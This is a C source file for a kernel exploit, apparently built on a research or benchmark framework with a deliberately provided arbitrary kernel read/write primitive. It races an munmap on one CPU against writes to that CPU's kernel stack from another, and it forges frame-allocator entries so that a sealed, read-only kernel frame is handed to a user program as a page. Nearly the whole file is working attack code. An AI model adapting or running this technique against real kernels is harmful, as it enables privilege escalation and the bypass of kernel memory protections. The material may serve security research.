/*
 * While one processor unmaps pages, another one goes for the list of their frames on its kernel
 * stack: a sealed frame takes the place of the last one, counts as free, and becomes a page.
 */
#include "attack.h"

#include <stdbool.h>
#include <string.h>
#include <sys/mman.h>

enum { CPU_OF_WRITER, CPU_OF_UNMAPPER, NR_CPUS };
enum { STAGE_READY = 1, STAGE_UNMAP, STAGE_UNMAPPED, STAGE_SEEN, NR_STAGES };
enum { NR_PAGES = 64, ROUNDS = 4000, SPARE_PAGES = 1024 };
enum {
	STACK_LOOK = 1024,
	FRAME_BYTES = 8,
	HISTORY = 2,
	WORD = sizeof(uint64_t),
	WORDS = BW_PAGE_SIZE / WORD
};
/* In the first word of a frame's entry. */
#define FRAME_OWNER 0xfful
#define OWNER_FREE 1ul
#define FRAME_HIDDEN (1ul << 8)
#define ENTRY_FRAME 0xffffffffff000ul
#define OTHER_VALUE 0x0bad0bad0bad0badul

static attack_stage stage;
static struct bw_leak leak, of_unmapper;
static struct bw_sealed_object target;

/* What the kernel notes about a frame. */
struct notes {
	uint64_t entry, links, history;
};

/* How the sealed frame was: what the kernel noted, its bytes, its alias. */
static struct {
	struct notes notes;
	uint64_t words[WORDS], alias, alias_place;
} before;

/* Of the pages that are about to be unmapped. */
static struct {
	char *pages;
	uint64_t pair; /* the numbers of the last two frames, as the list has them */
	uint64_t last_pfn;
	struct notes last;
} round;
static volatile unsigned int nr_stores; /* to its list */
static volatile bool is_changed, is_over;

static uint64_t load(uint64_t address) { return (uint64_t)bw_vuln_read(address); }

static void store(uint64_t address, uint64_t value)
{
	attack_check("vuln_write", bw_vuln_write(address, value));
}

static uint64_t frame_entry(uint64_t pfn) { return leak.frames + pfn * FRAME_BYTES; }

static struct notes notes_load(uint64_t pfn)
{
	return (struct notes){ load(frame_entry(pfn)), load(leak.frame_links + pfn * WORD),
			       load(leak.histories + pfn * HISTORY) };
}

static void notes_store(uint64_t pfn, const struct notes *notes)
{
	store(frame_entry(pfn), notes->entry);
	store(leak.frame_links + pfn * WORD, notes->links);
	attack_check("vuln_store",
		     bw_vuln_store(leak.histories + pfn * HISTORY, notes->history, HISTORY));
}

/* ---- The processor that unmaps ---- */

/* The stages of a round follow those of the one before. No system call. */
static void await(unsigned int round_nr, unsigned int which)
{
	while (stage < round_nr * NR_STAGES + which) {
		__builtin_ia32_pause();
	}
}

static void tell(unsigned int round_nr, unsigned int which)
{
	attack_tell(&stage, round_nr * NR_STAGES + which);
}

/* The sealed frame is behind this page: shows that, and gives the page the frame that was unmapped
 * in its place. All is as it was then. */
static void exchange(char *page)
{
	uint64_t place, entry;
	uint64_t *words = (uint64_t *)(void *)page;

	words[target.object % BW_PAGE_SIZE / WORD] = OTHER_VALUE;
	is_changed = load(target.object) != BW_SEALED_VALUE;
	memcpy(words, before.words, sizeof(before.words));
	entry = attack_entry(&leak, leak.root, (uintptr_t)page, &place);
	notes_store(round.last_pfn, &round.last);
	store(place, (entry & ~ENTRY_FRAME) | round.last_pfn * BW_PAGE_SIZE);
	notes_store(target.pfn, &before.notes);
	if (before.alias != 0) {
		store(before.alias_place, before.alias);
	}
}

/* Looks for the sealed frame among new pages, which are free again afterwards. For none of them the
 * kernel takes a frame for itself: it might be that one. */
static void find_target(char *spare)
{
	for (size_t i = 0; i < SPARE_PAGES && !is_changed; i++) {
		char *page = spare + i * BW_PAGE_SIZE;

		*(volatile char *)page = 0;
		if (attack_pfn(page) == target.pfn) {
			exchange(page);
		}
	}
	madvise(spare, SPARE_PAGES * BW_PAGE_SIZE, MADV_DONTNEED);
}

static void prepare(void)
{
	uint64_t last_but_one;

	round.pages = attack_pages(NR_PAGES * BW_PAGE_SIZE);
	last_but_one = attack_pfn(round.pages + (NR_PAGES - 2) * BW_PAGE_SIZE);
	round.last_pfn = attack_pfn(round.pages + (NR_PAGES - 1) * BW_PAGE_SIZE);
	round.last = notes_load(round.last_pfn);
	round.pair = round.last_pfn << 32 | last_but_one;
}

static void unmapper(void *unused)
{
	char *spare = attack_pages(SPARE_PAGES * BW_PAGE_SIZE);
	unsigned int nr = 0;

	(void)unused;
	/* their page tables stay */
	madvise(spare, SPARE_PAGES * BW_PAGE_SIZE, MADV_DONTNEED);
	attack_leak(&of_unmapper);
	while (!is_over) {
		prepare();
		tell(nr, STAGE_READY);
		await(nr, STAGE_UNMAP);
		munmap(round.pages, NR_PAGES * BW_PAGE_SIZE);
		tell(nr, STAGE_UNMAPPED);
		await(nr, STAGE_SEEN);
		if (nr_stores > 0) {
			find_target(spare);
		}
		nr++;
		is_over = is_changed || nr == ROUNDS;
	}
	tell(nr, STAGE_READY);
}

/* ---- The one that writes ---- */

/* Where the next system call of the other one will save its registers. */
static uint64_t next_regs(void)
{
	uint64_t at = of_unmapper.kstack_ring + (load(of_unmapper.syscalls_x2) & 0xff);

	return load(of_unmapper.lowest_regs) + (load(at) & 0xffff);
}

/* How far below them the last two frames of the list are: what munmap has left there tells. */
static uint64_t find_distance(uint64_t regs)
{
	for (uint64_t distance = WORD; distance < STACK_LOOK; distance += sizeof(uint32_t)) {
		if (load(regs - distance) == round.pair) {
			return distance;
		}
	}
	return 0;
}

/* It is the pool's, or says what was forged: it is not among the free ones that were looked at in
 * vain, nor anything else by now. */
static bool is_untaken(void)
{
	uint64_t owner = load(frame_entry(target.pfn)) & FRAME_OWNER;

	return owner == (before.notes.entry & FRAME_OWNER) || owner == OWNER_FREE;
}

/* As the last frame's entry is once it is free. */
static void forge_entry(void)
{
	store(frame_entry(target.pfn), OWNER_FREE | (before.notes.entry & FRAME_HIDDEN));
}

/* What a munmap before this one has left there must not be taken for this one's. */
static void clear(uint64_t place)
{
	if (load(place) == round.pair) {
		store(place, 0);
	}
}

/* As long as the other one is on its way. */
static void attack_list(unsigned int nr, uint64_t place)
{
	bool goes_on = is_untaken(), is_there = false, is_free = false;

	nr_stores = 0;
	if (goes_on) {
		clear(place);
		forge_entry();
	}
	tell(nr, STAGE_UNMAP);
	while (goes_on && stage < nr * NR_STAGES + STAGE_UNMAPPED) {
		is_there = is_there || load(place) == round.pair;
		is_free =
			is_free || (load(frame_entry(round.last_pfn)) & FRAME_OWNER) == OWNER_FREE;
		if (is_there && is_free) {
			store(place, target.pfn << 32 | (round.pair & UINT32_MAX));
			nr_stores++;
			goes_on = false;
		}
	}
	attack_await(&stage, nr * NR_STAGES + STAGE_UNMAPPED, AWAIT_SPIN);
}

static void save(void)
{
	struct bw_sealed sealed;

	attack_sealed(&sealed);
	target = sealed.of_mode[BW_SEALED_RO];
	before.notes = notes_load(target.pfn);
	for (size_t i = 0; i < WORDS; i++) {
		before.words[i] = load((target.object & -BW_PAGE_SIZE) + i * WORD);
	}
	before.alias = attack_entry(&leak, leak.kernel_root, target.alias, &before.alias_place);
}

/* Twice the same: other calls leave such words, too. */
static uint64_t learn_distance(unsigned int nr, uint64_t regs)
{
	static uint64_t last_found;
	uint64_t found, last = last_found;

	tell(nr, STAGE_UNMAP);
	attack_await(&stage, nr * NR_STAGES + STAGE_UNMAPPED, AWAIT_SPIN);
	found = last_found = find_distance(regs);
	return found == last ? found : 0;
}

int main(void)
{
	uint64_t distance = 0;
	unsigned int nr = 0;

	attack_begin(&leak, NR_CPUS, CPU_OF_WRITER);
	save();
	attack_say("frame 0x%lx is sealed, and shall be in the list of what CPU %d frees",
		   target.pfn, CPU_OF_UNMAPPER);
	attack_thread(CPU_OF_UNMAPPER, unmapper, NULL);
	for (;; nr++) {
		attack_await(&stage, nr * NR_STAGES + STAGE_READY, AWAIT_SPIN);
		if (is_over) {
			break;
		}
		if (distance == 0) {
			distance = learn_distance(nr, next_regs());
		} else {
			attack_list(nr, next_regs() - distance);
		}
		tell(nr, STAGE_SEEN);
	}
	if (!is_changed) {
		notes_store(target.pfn, &before.notes);
	}
	attack_say("after %u munmaps the sealed frame %s", nr,
		   is_changed ? "was the page of a program" : "is as it was");
	return attack_finish();
}
